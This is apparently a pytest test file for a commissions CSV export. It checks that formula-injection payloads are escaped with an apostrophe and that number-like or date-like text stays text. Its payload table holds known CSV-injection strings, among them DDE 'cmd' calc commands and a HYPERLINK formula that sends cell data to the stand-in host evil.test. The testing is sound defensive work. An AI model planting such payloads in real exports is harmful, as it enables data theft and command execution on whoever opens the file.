"""Text stays text in what a spreadsheet opens (no formula, number, date or truth), can be had back, and nothing else
changes: numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboards.kit import downloads
from pipelines.exports.report_files import sha256_of
from pipelines.exports.spreadsheet import FORMULA_STARTS, guarded, unguarded
from pipelines.exports.verify import verify_export
from resources.home import Home
from resources.ledger import Ledger
from tests.exports.conftest import Outcome
from tests.exports.published import SNAPSHOT, Contents, Finding, Row

Publish = Callable[..., Path]

NAME = f"commissions_2026-10-01_2026-11-01_{SNAPSHOT}"
Cli = Callable[..., Outcome]
# OWASP's CSV injection page and well-known payloads: what is given, what is written.
PAYLOADS = {
    "=1+1": "'=1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"click")': '\'=HYPERLINK("http://evil.test?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!D2": "'-2+3+cmd|' /C calc'!D2",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    " =1+1": "' =1+1",
    "\N{NO-BREAK SPACE}=1+1": "'\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1": "'\N{ZERO WIDTH SPACE}=1+1",
    "\0=1+1": "'\0=1+1",
    "-": "'-",
    "＝1+1": "'＝1+1",
    "﹦1+1": "'﹦1+1",
    "−1": "'−1",
    # Another separator would begin a cell here; so would a line that is no longer quoted.
    "a;=1+1": "a;'=1+1",
    'a;"=1+1': "a;'\"=1+1",
    "a, @x": "a,' @x",
    "a\t+1": "a\t'+1",
    "a\r\n=1+1": "a\r\n'=1+1",
    "a;;\t＝1": "a;;\t'＝1",
}
# What Excel, LibreOffice or Google Sheets would turn into something else.
TURNED = (
    *(
        "00042",
        "512",
        "12E5",
        "1e-3",
        "6281234567890",
        "12345678901234567",
        "1,5",
        "1.500",
        "1 000",
        "(5)",
        "10%",
    ),
    *("2026-10-01", "1-2", "1/2", "2024-1", "10:30", "10.30", "5 p", "12:00 AM", "2026-10-01T10:00:00Z", "٣"),
    *(
        "MAR1",
        "SEPT2",
        "1 Okt 2026",
        "Oct-26",
        "1 Agustus",
        "Senin, 5",
        "Rp 90.000",
        "$5",
        "IDR5",
        "2026年10月1日",
    ),
    *("true", "FALSE", "Benar", "#N/A", "#REF!", " 42 "),
)
HARMLESS = (
    *(
        "Ayu Spa",
        "a=1",
        "",
        "é",
        "b2",
        "Spa 12",
        "Spa - Ubud",
        "rock 'n roll",
        "Ma'ruf",
        "UTC+07:30",
        "May",
        "3 kamar",
    ),
    *(
        "missing:b1",
        "customer_12_therapist_1",
        "64b7f0a1c2d3e4f50a1b",
        "no-such-booking",
        "5p",
        "A, B; C",
        "x" * 300,
    ),
)


def marked(text: str) -> str:
    return guarded(pl.DataFrame({"t": [text]}))["t"].item()


@pytest.mark.parametrize(("text", "written"), PAYLOADS.items())
def test_a_formula_becomes_text_wherever_a_cell_may_begin(text: str, written: str) -> None:
    assert marked(text) == written
    assert unguarded(written) == text


@pytest.mark.parametrize("text", TURNED)
def test_text_that_reads_like_a_number_a_date_or_a_truth_stays_text(text: str) -> None:
    assert marked(text) == "'" + text
    assert unguarded("'" + text) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert marked(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize(("text", "written"), [("'=1", "''=1"), ("'", "''"), ("a,'b", "a,''b")])
def test_an_apostrophe_at_such_a_place_is_doubled_so_that_it_is_not_lost(text: str, written: str) -> None:
    assert marked(text) == written
    assert unguarded(written) == text


def test_numbers_nulls_and_columns_to_leave_are_as_they_were() -> None:
    frame = pl.DataFrame(
        {"i": [-1, None], "f": [-0.5, None], "t": [None, None], "at": ["2026-10-01T00:00:00Z", "=1"]},
        schema_overrides={"t": pl.String},
    )
    assert guarded(frame, {"at"}).equals(frame)


ANY_TEXT = st.one_of(st.text(), st.text(alphabet="=+-@＝'\"\t\r\n ,;|\0a1é\x85\u2028\u200b"))


@given(st.lists(st.one_of(st.none(), ANY_TEXT), min_size=1))
def test_no_cell_is_a_formula_whatever_separates_cells_and_the_text_can_be_had_back(
    texts: list[str | None],
) -> None:
    safe = guarded(pl.DataFrame({"t": texts}, schema={"t": pl.String}))["t"].to_list()
    for before, after in zip(texts, safe, strict=True):
        if before is None:
            assert after is None
            continue
        assert after is not None
        assert unguarded(after) == before
        for cell in re.split("[,;\t\r\n\v\f\x85\u2028\u2029]", after):
            assert cell.lstrip(' "\0\u200b')[:1] not in (*FORMULA_STARTS,), (after, cell)
        assert after[:1] not in ("\t", "\r", "\n", "\0")


def test_a_download_of_the_dashboards_is_marked_as_an_export_is() -> None:
    texts = [*PAYLOADS, *TURNED, *HARMLESS]
    frame = pl.DataFrame({"booking_id": texts})
    written = downloads.csv(frame.with_columns(n=pl.lit(-1))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows[1:] == [[text, "-1"] for text in guarded(frame)["booking_id"]]


def publish_texts(home: Home, publish: Publish) -> list[str]:
    texts = [*PAYLOADS, *TURNED, *HARMLESS]
    publish(
        home,
        Contents(
            rows=tuple(
                Row(
                    datetime(2026, 10, 2, 0, n // 60, n % 60),
                    f"b{n:02}",
                    text,
                    booking_ref=text,
                    source="=1+1" if n == 0 else "chatWindow",
                    actual_idr=-n,
                    rate=None if n % 3 else 0.3 + n / 1_000_000,
                    state="mismatched",
                )
                for n, text in enumerate(texts)
            ),
            findings=(Finding("orphan", None, "=1+1", detail="-1 is not a rupiah"),),
        ),
    )
    return texts


def read(path: Path, separator: str = ",") -> list[dict[str, str]]:
    return list(
        csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=separator)
    )


@pytest.mark.parametrize(("locale", "separator"), [("en", ","), ("id", ";")])
def test_the_files_hold_the_texts_safe_and_raw(
    home: Home, export: Cli, tmp_path: Path, locale: str, separator: str, publish: Publish
) -> None:
    texts = publish_texts(home, publish)
    out = tmp_path / "out"
    export(out, "--locale", locale)
    raw, safe = read(out / f"{NAME}.csv"), read(out / f"{NAME}_spreadsheet.csv", separator)
    assert [row["booking_ref"] for row in raw] == texts
    assert [row["booking_ref"] for row in safe] == [
        PAYLOADS.get(text, "'" + text if text in TURNED else text) for text in texts
    ]
    for one, other in zip(raw, safe, strict=True):
        for column in one:
            if column == "rate":
                assert other[column] == (one[column].replace(".", ",") if locale == "id" else one[column])
            elif column == "policy_version":
                assert (one[column], other[column]) == ("2024-1", "'2024-1")
            elif column not in ("booking_ref", "commission_id", "source"):
                assert one[column] == other[column]  # days, instants, amounts, states
    assert safe[0]["source"] == "'=1+1"
    assert safe[0]["rate"] == ("0,3" if locale == "id" else "0.3")
    assert [row["actual_idr"] for row in safe] == [str(-n) for n in range(len(texts))]
    (finding,) = read(out / f"{NAME}_findings_spreadsheet.csv", separator)
    assert finding["commission_id"] == "'=1+1"
    assert finding["detail"] == "'-1 is not a rupiah"
    assert finding["variance_idr"] == "-90000"
    summary = read(out / f"{NAME}_summary_spreadsheet.csv", separator)
    assert [row["source"] for row in summary] == ["'=1+1", "chatWindow", "total"]
    assert read(out / f"{NAME}_summary.csv")[0]["source"] == "=1+1"
    verdict = verify_export(out, home.ledger)
    assert verdict.holds, verdict.differences


def test_the_locale_is_in_manifest_and_ledger_and_makes_another_report(
    october: Home, export: Cli, cli: Cli, tmp_path: Path
) -> None:
    export(tmp_path / "en")
    export(tmp_path / "id", "--locale", "id")
    assert json.loads((tmp_path / "en" / "manifest.json").read_text())["locale"] == "en"
    assert json.loads((tmp_path / "id" / "manifest.json").read_text())["locale"] == "id"
    assert "locale" not in Ledger(october.ledger).exports()[0].filters
    assert json.loads(Ledger(october.ledger).exports()[1].filters)["locale"] == "id"
    # The machine files are the same: only what a person opens is written as the locale has it.
    for suffix in ("", "_findings", "_summary"):
        name = f"{NAME}{suffix}.csv"
        assert (tmp_path / "en" / name).read_bytes() == (tmp_path / "id" / name).read_bytes()
    words = ("export", "commissions", "--from", "2026-10-01", "--to", "2026-11-01", "--out")
    refused = cli(*words, str(tmp_path / "id"))
    assert refused.status == 1
    assert "written for the locale id" in refused.err
    assert cli("verify", str(tmp_path / "id")).status == 0


def test_other_readers_see_the_cells_of_the_indonesian_file(
    october: Home, export: Cli, tmp_path: Path
) -> None:
    export(tmp_path / "out", "--locale", "id")
    path = tmp_path / "out" / f"{NAME}_spreadsheet.csv"
    plain = [list(row.values()) for row in read(path, ";")]
    with duckdb.connect() as con:
        duck = con.execute(
            "SELECT * FROM read_csv(?, all_varchar=true, header=true, delim=';', quote='\"', escape='\"')",
            [str(path)],
        ).fetchall()
    assert [["" if cell is None else cell for cell in row] for row in duck] == plain
    typed = pl.read_csv(path, separator=";", decimal_comma=True)
    assert typed["rate"].to_list() == [0.3, 0.3, None, 0.25, 0.3, 0.3, 0.3]
    assert typed["actual_idr"].dtype == pl.Int64


def test_a_cell_of_the_safe_file_that_says_something_else_is_seen(
    october: Home, export: Cli, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export(out)
    path = out / f"{NAME}_spreadsheet.csv"
    path.write_bytes(path.read_bytes().replace(b"c-wrong", b"c-right"))
    manifest = json.loads((out / "manifest.json").read_text())
    next(entry for entry in manifest["files"] if entry["name"] == path.name)["sha256"] = sha256_of(path)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    verdict = verify_export(out, tmp_path / "none.sqlite")
    assert any(
        "does not say what the raw file says: row 2, commission_id" in said for said in verdict.differences
    )


def test_a_report_of_the_first_manifest_version_is_still_proven(
    october: Home, export: Cli, tmp_path: Path
) -> None:
    """As the version before wrote it: no locale, no sheets, no safe file of the summary, weaker marks."""
    out = tmp_path / "out"
    export(out)
    (out / f"{NAME}_summary_spreadsheet.csv").unlink()
    safe = out / f"{NAME}_spreadsheet.csv"
    safe.write_bytes(safe.read_bytes().replace(b"'2024-1", b"2024-1"))
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["manifest_version"] = 1
    del manifest["locale"], manifest["difference"]
    manifest["files"] = [
        {key: value for key, value in entry.items() if key != "sheets"}
        | {"bytes": (out / entry["name"]).stat().st_size, "sha256": sha256_of(out / entry["name"])}
        for entry in manifest["files"]
        if "_summary_spreadsheet" not in entry["name"]
    ]
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")
    verdict = verify_export(out, tmp_path / "none.sqlite")
    assert (verdict.holds, verdict.files) == (True, 5), verdict.differences
